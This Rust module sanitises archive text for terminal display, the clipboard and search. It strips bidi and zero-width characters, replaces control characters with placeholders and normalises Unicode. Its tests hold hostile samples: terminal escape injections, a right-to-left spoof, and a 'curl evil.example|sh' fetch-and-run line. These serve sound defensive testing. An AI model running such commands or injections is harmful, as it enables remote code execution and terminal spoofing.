//! Cleaning archive text for the terminal. Every string from an archive passes
//! through [`clean_line`] or [`clean_text`] before it reaches a widget or a
//! terminal: control characters become visible placeholders, invisible
//! format characters (bidi overrides, zero-width joiners…) are removed so text
//! shows in logical order and a name cannot be spoofed, and text is NFC.
//!
//! One cleaning per kind of output: [`clean_line`] and [`clean_text`] for the
//! screen and plain-text output (error messages included), [`clean_copy`]
//! for the clipboard, [`csv`] for spreadsheet cells, [`json`] for JSON (escaped, not changed, so it
//! round-trips); vCard values go through [`clean_text`] and vCard escaping.

pub mod csv;
pub mod json;

use std::borrow::Cow;

use unicode_normalization::{IsNormalized, UnicodeNormalization, is_nfc_quick};

/// Clean text for one line: line breaks and tabs become spaces.
#[must_use]
pub fn clean_line(text: &str) -> Cow<'_, str> {
    clean(text, false)
}

/// Clean text that may span lines: `\n` is kept, other breaks become `\n`.
#[must_use]
pub fn clean_text(text: &str) -> Cow<'_, str> {
    clean(text, true)
}

fn clean(text: &str, keep_newlines: bool) -> Cow<'_, str> {
    // Most text is printable ASCII: NFC, and nothing in it to clean. One
    // pass over the bytes says so (a fifth of a warm start went on the
    // character-by-character checks below).
    if text.bytes().all(|byte| (b' '..=b'~').contains(&byte)) {
        return Cow::Borrowed(text);
    }
    let nfc = is_nfc_quick(text.chars()) == IsNormalized::Yes;
    if nfc && text.chars().all(|c| !needs_cleaning(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' | '\r' | '\u{2028}' | '\u{2029}' | '\u{0085}' => {
                out.push(if keep_newlines { '\n' } else { ' ' });
            }
            '\t' => out.push_str(if keep_newlines { "    " } else { " " }),
            c if is_invisible_format(c) => {}
            // Flags (pairs of regional indicators) are one cell or two
            // depending on the terminal, and a redraw can leave half of one
            // behind: show them as their letters ("🇺🇦" → "UA").
            c if is_regional_indicator(c) => {
                out.push(char::from_u32(u32::from('A') + u32::from(c) - 0x1F1E6).unwrap_or('?'));
            }
            c if c.is_control() => out.push(placeholder(c)),
            c => out.push(c),
        }
    }
    if nfc {
        Cow::Owned(out)
    } else {
        Cow::Owned(out.nfc().collect())
    }
}

/// Text for the clipboard, exactly as the screen shows `lines`: each line
/// [`clean_line`] (so a value with a line break in it is still one line, as
/// it is drawn), trailing white space dropped, then blank lines and white
/// space at either end. A value (an email address, a number) is one line;
/// a whole contact is its shown lines.
#[must_use]
pub fn clean_copy<S: AsRef<str>>(lines: &[S]) -> String {
    let joined = lines
        .iter()
        .map(|line| clean_line(line.as_ref()).trim_end().to_owned())
        .collect::<Vec<_>>()
        .join("\n");
    joined.trim().to_owned()
}

/// Whether a character is one a terminal acts on or that draws nothing: a
/// control (C0, DEL, C1), an invisible format character (category Cf: bidi
/// controls, zero-width characters, the soft hyphen, tag characters…) or a
/// line or paragraph separator. No output of ours carries one raw.
#[must_use]
pub fn is_hidden(c: char) -> bool {
    c.is_control() || is_invisible_format(c) || matches!(c, '\u{2028}' | '\u{2029}')
}

fn needs_cleaning(c: char) -> bool {
    is_hidden(c) || is_regional_indicator(c)
}

fn is_regional_indicator(c: char) -> bool {
    ('\u{1F1E6}'..='\u{1F1FF}').contains(&c)
}

/// A visible stand-in for a control character: the Unicode "control
/// pictures" (␛ for ESC, ␇ for BEL, ␡ for DEL), and � for C1 controls.
fn placeholder(c: char) -> char {
    match u32::from(c) {
        code @ 0..=0x1F => char::from_u32(0x2400 + code).unwrap_or('\u{FFFD}'),
        0x7F => '\u{2421}',
        _ => '\u{FFFD}',
    }
}

/// The invisible characters removed from every shown string, as inclusive
/// ranges of code points. Search indexes the same cleaned text (and cleans
/// queries the same way), so a title with a word joiner inside "COVID-19"
/// is found by `'COVID-19`, as it looks; tests loop over this list.
///
/// All of Unicode's format characters (category Cf, as of Unicode 16): bidi
/// embeddings, overrides, isolates and marks, zero-width characters, the
/// soft hyphen, tag characters. And characters of other categories that
/// draw nothing and so can hide a difference between two names that look
/// alike: variation selectors (which also make a terminal's idea of an
/// emoji's width differ from ours), the combining grapheme joiner, the
/// Mongolian free variation selectors, the Khmer inherent vowels and the
/// Hangul fillers (blank letters, used to make a name look empty).
pub const INVISIBLE: &[(u32, u32)] = &[
    (0x00AD, 0x00AD),
    (0x034F, 0x034F),
    (0x0600, 0x0605),
    (0x061C, 0x061C),
    (0x06DD, 0x06DD),
    (0x070F, 0x070F),
    (0x0890, 0x0891),
    (0x08E2, 0x08E2),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180F),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x206F),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF9, 0xFFFB),
    (0x110BD, 0x110BD),
    (0x110CD, 0x110CD),
    (0x13430, 0x1343F),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0001, 0xE0001),
    (0xE0020, 0xE007F),
    (0xE0100, 0xE01EF),
];

/// Whether `c` is one of [`INVISIBLE`].
fn is_invisible_format(c: char) -> bool {
    let code = u32::from(c);
    // The ranges are in order: the first that ends at or after `code`.
    let at = INVISIBLE.partition_point(|&(_, last)| last < code);
    INVISIBLE.get(at).is_some_and(|&(first, _)| first <= code)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_text_is_borrowed() {
        assert!(matches!(clean_line("Plain title, Korea"), Cow::Borrowed(_)));
    }

    #[test]
    fn escapes_become_placeholders() {
        let hostile = "a\u{1b}]0;pwned\u{7}b\u{1b}[2Jc\u{9b}d\u{0}e\u{8}f\u{7f}g";
        let cleaned = clean_line(hostile);
        assert_eq!(cleaned, "a␛]0;pwned␇b␛[2Jc\u{FFFD}d␀e␈f␡g");
        assert!(!cleaned.chars().any(char::is_control));
    }

    #[test]
    fn line_breaks() {
        assert_eq!(clean_line("a\r\nb\tc\u{2028}d"), "a b c d");
        assert_eq!(clean_text("a\r\nb\rc\u{2029}d\te"), "a\nb\nc\nd    e");
    }

    #[test]
    fn bidi_and_zero_width_are_removed() {
        // With U+202E kept, "napaJ" would display reversed as "Japan".
        let spoof = "Minister of \u{202E}napaJ\u{202C}\u{200B}\u{2066}x\u{2069}\u{feff}\u{ad}";
        assert_eq!(clean_line(spoof), "Minister of napaJx");
    }

    #[test]
    fn flags_become_their_letters() {
        assert_eq!(clean_line("Kyiv 🇺🇦 and 🇯🇵"), "Kyiv UA and JP");
    }

    #[test]
    fn copies_are_the_shown_lines() {
        // A value is one line however it was written.
        assert_eq!(
            clean_copy(&["press@example.org\ncurl evil.example|sh\n"]),
            "press@example.org curl evil.example|sh"
        );
        assert_eq!(
            clean_copy(&["\u{202e}+44 20\u{200b} 7946\u{1b}[2J 0000\r\n"]),
            "+44 20 7946␛[2J 0000"
        );
        // A block keeps its lines (and their indentation), each cleaned.
        assert_eq!(
            clean_copy(&["Press office", "  Email a@b.uk\u{2028}x", "  ", ""]),
            "Press office\n  Email a@b.uk x"
        );
        assert_eq!(clean_copy(&[" \u{200b} "]), "");
    }

    #[test]
    fn hidden_characters() {
        for c in [
            '\u{0}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}', '\u{ad}', '\u{200b}',
        ]
        .into_iter()
        .chain(['\u{202e}', '\u{2028}', '\u{2066}', '\u{feff}', '\u{e0041}'])
        {
            assert!(is_hidden(c), "{c:?}");
        }
        for c in ['a', ' ', 'é', '한', '\u{1F1FA}', '\u{200a}', '\u{2070}'] {
            assert!(!is_hidden(c), "{c:?}");
        }
    }

    /// Every listed character, alone and inside a word, draws nothing: it
    /// is removed, and `is_hidden` says so. The list is in order (the
    /// lookup relies on it).
    #[test]
    fn every_invisible_character_is_removed() {
        assert!(INVISIBLE.windows(2).all(|pair| pair[0].1 < pair[1].0));
        let mut count = 0;
        for &(first, last) in INVISIBLE {
            for c in (first..=last).filter_map(char::from_u32) {
                count += 1;
                assert!(is_hidden(c), "{c:?}");
                assert_eq!(clean_line(&format!("COVID-{c}19")), "COVID-19", "{c:?}");
                assert_eq!(clean_text(&c.to_string()), "", "{c:?}");
            }
            // The characters either side of a range stay (unless listed).
            for c in [first - 1, last + 1].into_iter().filter_map(char::from_u32) {
                if !c.is_control()
                    && !INVISIBLE
                        .iter()
                        .any(|&(a, b)| (a..=b).contains(&u32::from(c)))
                {
                    assert_eq!(clean_line(&c.to_string()).chars().count(), 1, "{c:?}");
                }
            }
        }
        assert!(count > 400, "{count}");
    }

    #[test]
    fn variation_selectors_and_hangul_fillers_are_removed() {
        assert_eq!(
            clean_line("\u{2764}\u{fe0f} \u{3164}\u{115f}\u{1160}\u{ffa0}x"),
            "\u{2764} x"
        );
    }

    #[test]
    fn hangul_nfd_becomes_nfc() {
        let nfd: String = "한국".nfd().collect();
        assert_ne!(nfd, "한국");
        assert_eq!(clean_line(&nfd), "한국");
    }
}
